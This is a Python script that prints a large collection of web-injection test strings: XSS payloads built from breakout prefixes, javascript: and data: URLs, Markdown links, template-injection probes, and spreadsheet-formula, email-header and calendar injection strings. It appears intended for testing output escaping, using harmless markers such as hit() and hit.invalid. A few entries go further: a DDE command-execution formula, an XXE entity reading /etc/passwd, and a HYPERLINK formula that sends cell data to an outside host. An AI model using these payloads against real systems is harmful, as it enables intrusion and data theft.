"""Texts that would like to be more than texts. payloads.py prints them as JSON.

SCRIPTS    would run, if a page had them unescaped: each calls hit(N), asks for hit.invalid, or opens a dialog
ADDRESSES  would run, if a link led to them
LINKS      the same in Markdown
TEMPLATES  would be worked out, if a template took them for its own
INJECTIONS would begin a cell, a line, a header or a formula of their own, in what is taken away
"""

import json

BREAKOUTS = ["", "\"", "'", "`", "\">", "'>", "-->", "--!>", "]]>", "*/", "</script>", "</style>", "</title>", "</textarea>", "</svg>", "</noscript>",
             "</template>", "</pre></code>", "</a></p></td></table>", "\\\"", "\\'", "\\", "\u2028", "\ufeff", "${", "&quot;>", "&#34;>", "%22%3E", "<!--", "<![CDATA["]

ELEMENTS = [
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    "<details open ontoggle=hit()>x</details>", "<input autofocus onfocus=hit()>",
]

MORE_ELEMENTS = [
    "<SCRIPT>hit()</SCRIPT>", "<script >hit()</script >", "<script/x>hit()</script>", "<script\n>hit()</script>", "<scr<script>ipt>hit()</script>",
    "<script src=//hit.invalid/x.js></script>", "<script src=data:,hit()></script>", "<script type=module>hit()</script>",
    "<script>/*", "*/hit()</script>", "<script>hit`1`</script>", "<script type=application/ld+json>", "<body onload=hit()>", "<body onpageshow=hit()>",
    "<iframe src=javascript:parent.hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<iframe onload=hit()></iframe>",
    "<object data=javascript:hit()></object>", "<embed src=javascript:hit()>", "<embed src=//hit.invalid/x>", "<object data=//hit.invalid/x></object>",
    "<video><source onerror=hit()></video>", "<video src=x onerror=hit()></video>", "<audio src=x onerror=hit()></audio>", "<video poster=//hit.invalid/x></video>",
    "<img src=//hit.invalid/x>", "<img srcset=//hit.invalid/x>", "<img/src=x/onerror=hit()>", "<img src=`x` onerror=hit()>", "<img src=x:x onerror=hit()//",
    "<img src=\"x\"onerror=\"hit()\">", "<IMG SRC=x ONERROR=hit()>", "<image src=x onerror=hit()>", "<picture><img src=x onerror=hit()></picture>",
    "<svg/onload=hit()>", "<svg\tonload=hit()>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set onbegin=hit() attributeName=x>",
    "<svg><image href=//hit.invalid/x />", "<svg><use href=data:image/svg+xml,x#x />", "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=hit()></foreignObject></svg>", "<svg><style>@import '//hit.invalid/x'</style></svg>", "<svg><desc><script>hit()</script></desc></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", "<math href=javascript:hit()>x</math>", "<math><maction actiontype=statusline#hit()>x</maction></math>",
    "<style>@import '//hit.invalid/x';</style>", "<style>*{background:url(//hit.invalid/x)}</style>", "<style onload=hit()></style>", "<p style=background:url(//hit.invalid/x)>",
    "<link rel=stylesheet href=//hit.invalid/x>", "<link rel=stylesheet href=data:,x onload=hit()>", "<link rel=prefetch href=//hit.invalid/x>", "<link rel=import href=//hit.invalid/x>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<meta http-equiv=refresh content='0;url=//hit.invalid/'>", "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href=//hit.invalid/>", "<base href=javascript:/a/-hit()//>", "<form action=javascript:hit()><button autofocus>x</button></form>",
    "<button formaction=javascript:hit() form=f>x</button>", "<input type=image src=//hit.invalid/x>", "<input type=image src=x onerror=hit()>", "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>", "<keygen autofocus onfocus=hit()>", "<marquee onstart=hit()>x</marquee>", "<bgsound src=//hit.invalid/x>", "<isindex action=javascript:hit()>",
    "<table background=//hit.invalid/x>", "<td background=//hit.invalid/x>", "<frameset onload=hit()>", "<applet code=hit.invalid>", "<x onfocus=hit() tabindex=1 autofocus>",
    "<div contenteditable autofocus onfocus=hit()>", "<p onanimationstart=hit() style=animation:x>", "<style>@keyframes x{}</style><p style=animation-name:x onanimationend=hit()>",
    "<xmp><script>hit()</script></xmp>", "<plaintext>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">", "<noembed><img src=x onerror=hit()></noembed>",
    "<template><script>hit()</script></template>", "<slot onslotchange=hit()>", "<dialog open onclose=hit()>", "<a href=javascript:hit() autofocus onfocus=hit()>x</a>",
    "<a id=x onclick=hit()>x</a>", "<a ping=//hit.invalid/ href=#>x</a>", "<portal src=//hit.invalid/>", "<html onload=hit()>", "<head><script>hit()</script>",
    "\" onmouseover=hit() x=\"", "' onfocus=hit() autofocus x='", "\" autofocus onfocus=\"hit()", "\" style=\"animation:x\" onanimationstart=\"hit()", "x onerror=hit()",
    "\" srcdoc=\"<script>parent.hit()</script>", "\"/><script>hit()</script><x y=\"", "\");hit();(\"", "');hit();('", "\\\");hit();(\\\"", "`);hit();(`", "${hit()}", "\");hit()//", "</script><script>hit()//",
    "<!--<script>", "<!--<script></script>-->", "--><script>hit()</script><!--", "]]><script>hit()</script><![CDATA[", "<?xml version=\"1.0\"?><script>hit()</script>",
    "<?php echo 1 ?><script>hit()</script>", "<!ENTITY x \"<script>hit()</script>\">", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "&#x3c;script&#x3e;hit()", "&amp;lt;script&amp;gt;hit()", "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "\\x3cscript\\x3ehit()", "＜script＞hit()＜/script＞", "‹script›hit()‹/script›", "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\u2028hit()\u2029", "a\u202e<script>hit()</script>", "<\ufeffscript>hit()</script>", "<script\u00a0>hit()</script>", "<ſcript>hit()</ſcript>", "<ımg src=x onerror=hit()>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hit() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit()//>\\x3e",
    "'\"--></style></script><svg onload=hit()>", "';hit()//';hit()//\";hit()//\";hit()//--></script>\">'><script>hit()</script>",
    "<a href=\"&#106;avascript:hit()\">x</a>", "<a href=\"java\tscript:hit()\">x</a>", "<img src=x onerror=&#104;it()>", "<svg><script>&#104;it()</script></svg>",
    "<<script>hit()//<</script>", "<script>hit()", "<img src=x onerror=hit() ", "<img \"\"\"><script>hit()</script>\">", "<%= hit() %>", "#{hit()}", "@{hit()}",
    "__proto__", "constructor", "hasOwnProperty", "<b>bold</b>", "<h1>large</h1>", "</main></body></html>", "<select><option>", "<col><tr><td>",
]

SCRIPTS = list(dict.fromkeys([breakout + element for breakout in BREAKOUTS for element in ELEMENTS] + MORE_ELEMENTS))

TEMPLATES = ["{{ 191 * 7 }}", "{% if true %}{{ 191*7 }}{% endif %}", "{# gone #}", "{{ title|safe }}", "{% raw %}", "{% include 'base.html' %}", "{% for x in [1] %}{{ 191*7 }}{% endfor %}",
             "${191*7}", "<%= 191*7 %>", "#{191*7}", "{{'a'.constructor}}", "{{ self }}", "{{ super() }}", "[[191*7]]", "{{{191*7}}}", "{% extends 'x' %}"]

ADDRESSES = [
    "javascript:hit()", "JaVaScRiPt:hit()", "javascript:hit()//https://a.example", " javascript:hit()", "\tjavascript:hit()", "java\tscript:hit()", "java\nscript:hit()", "javascript\t:hit()",
    "\u00a0javascript:hit()", "\ufeffjavascript:hit()", "\u200bjavascript:hit()", "javascript&colon;hit()", "javascript&#58;hit()", "javascript%3Ahit()", "%6Aavascript:hit()",
    "javascript：hit()", "ｊavascript:hit()", "javaſcript:hit()", "javascript://%0ahit()", "javascript:void(hit())", "javascript:/*--></title>*/hit()", "vbscript:hit()", "livescript:hit()",
    "data:text/html,<script>hit()</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "DATA:text/html,<script>hit()</script>", "data:image/svg+xml,<svg onload=hit()>",
    "blob:https://a.example/1", "file:///etc/passwd", "filesystem:https://a.example/x", "view-source:javascript:hit()", "feed:javascript:hit()", "jar:javascript:hit()",
    "//hit.invalid/", "\\\\hit.invalid/", "/\\hit.invalid/", "\\/hit.invalid/", "///hit.invalid/", "https:javascript:hit()", "http:javascript:hit()", "mailto:javascript:hit()",
    "https://a.example/\"onmouseover=\"hit()", "https://a.example/'onmouseover='hit()", "https://a.example/><script>hit()</script>", "#\"onclick=\"hit()", "x\" onfocus=hit() autofocus x=\"",
    "mailto:a@b.example?subject=x%0d%0aBcc:c@d.example", "tel:\" onfocus=hit()", "?javascript:hit()", "./javascript:hit()", "javascript:hit()\"", "https://a.example@hit.invalid",
]

LINKS = [form.format(address.replace("\n", "&NewLine;").replace("\t", "&Tab;")) for address in ADDRESSES
         if not address.startswith("#")  # a place that is not there is no more than that
         for form in ("[a]({0})", "[a](<{0}>)", "<{0}>", "![a]({0})", "[a][b]\n\n[b]: {0}")]

INJECTIONS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://hit.invalid/?\"&A1)", "＝1+1", "＋1", "－1", "＠x", "%0A=1", "\"=1+1\"", "'=1+1", ";=1+1", ",=1+1",
    "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a\",=1+1", "a\"\r\n=1+1,\"", "a\"\"b", "\"", "\"\"", "'", "a\\", "a\\nb", "a\\,b\\;c", "a\r\nb", "a\nb", "a\rb", "a\u2028b", "a\u2029b",
    "x\r\nBEGIN:VEVENT\r\nUID:injected\r\nEND:VEVENT", "x\nEND:VCALENDAR", "x\r\nATTACH:https://hit.invalid/", "x:y;z,w", "x\r\nBcc: c@d.example", "x\nSubject: injected", "x\r\n\r\n<p>injected", "=?utf-8?B?aW5qZWN0ZWQ=?=",
    "]]></content><entry>", "<entry><id>x</id></entry>", "&x;", "&#0;", "&#x1F;", "\u202eright to left\u202c", "\u2066isolated\u2069", "\u061c", "\u200f\u200e", "\ufffe", "\uffff", "\U0010ffff", "a\u0301\u0301", "\ufeff",
    "{\"a\": 1}", "\\u0000", "\\", "</script>", "<!--", "__proto__", "null", "true", "NaN", "1e5", "00123", "2008-06-18", "1/2", "#REF!", "MAR1",
]

if __name__ == "__main__":
    print(json.dumps({"scripts": SCRIPTS, "addresses": ADDRESSES, "links": LINKS, "templates": TEMPLATES, "injections": INJECTIONS}))
